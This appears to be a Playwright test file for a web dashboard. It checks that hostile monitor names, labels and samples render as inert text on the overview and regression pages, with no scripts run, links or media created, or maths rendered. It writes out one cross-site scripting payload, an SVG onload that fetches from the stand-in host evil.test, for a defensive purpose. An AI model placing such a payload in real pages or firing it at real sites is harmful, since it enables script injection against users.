"""Samples and names that try to run, load or phone home."""

from __future__ import annotations

from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Visitor
from tests.fake_api import HOSTILE, MONITORS

pytestmark = pytest.mark.slow

CAUGHT = """() => ({
  ran: window.__ran ?? null,
  links: [...document.querySelectorAll('a')].map(a => a.href).filter(href => !href.startsWith(location.origin)),
  media: [...document.querySelectorAll('img, iframe, object, embed, link, style, form, base, math, [ontoggle]')]
    .filter(m => /evil|__ran/.test(m.outerHTML)).length,
  scripts: [...document.scripts].filter(script => /__ran/.test(script.text)).length,
  maths: document.querySelectorAll('.katex').length,
})"""
SOON = 30_000
"""Milliseconds in which a page of many samples stands there, on a machine that is busy."""
NOTHING = {"ran": None, "links": list[str](), "media": 0, "scripts": 0, "maths": 0}


def open_every_example(page: Page) -> None:
    """Unfolds what is folded, so that it is rendered."""
    page.evaluate("document.querySelectorAll('details:not([open]) > summary').forEach(fold => fold.click())")


def test_hostile_names_stay_text_on_the_overview(visitor: Visitor) -> None:
    """No name runs a script, becomes a link, loads an image or turns into maths; it is shown as it is."""
    page = visitor.open("hostile", "/")
    for name in (HOSTILE[0], HOSTILE[2]):
        expect(page.get_by_text(name).filter(visible=True).first).to_be_visible(timeout=20_000)
    open_every_example(page)
    visitor.shoot(page, "overview-hostile")
    assert page.evaluate(CAUGHT) == NOTHING


@pytest.mark.parametrize("index", [0, 2, 4])
def test_hostile_labels_stay_text_on_the_regression_page(visitor: Visitor, index: int) -> None:
    """A label stands in the heading, under the chart and beside its axis, as text and nothing else."""
    page = visitor.open("hostile", f"/regression?monitor=label-{index}")
    expect(page.get_by_text(HOSTILE[index]).first).to_be_visible()
    visitor.shoot(page, f"regression-hostile-label-{index}")
    assert page.evaluate(CAUGHT) == NOTHING


@pytest.mark.parametrize("index", [0, -1])
def test_hostile_samples_stay_text_on_the_regression_page(visitor: Visitor, index: int) -> None:
    """Requests, responses, explanations and titles of every kind are text and nothing else."""
    page = visitor.open("hostile", f"/regression?monitor={quote(MONITORS['hostile']()[index].monitor_id, safe='')}")
    expect(page.get_by_test_id("stExpander").nth(len(HOSTILE) - 1)).to_be_visible(timeout=SOON)
    open_every_example(page)
    expect(page.get_by_text("<svg/onload=fetch('https://evil.test/h')>").last).to_be_visible()
    visitor.shoot(page, f"regression-hostile-{index}")
    assert page.evaluate(CAUGHT) == NOTHING
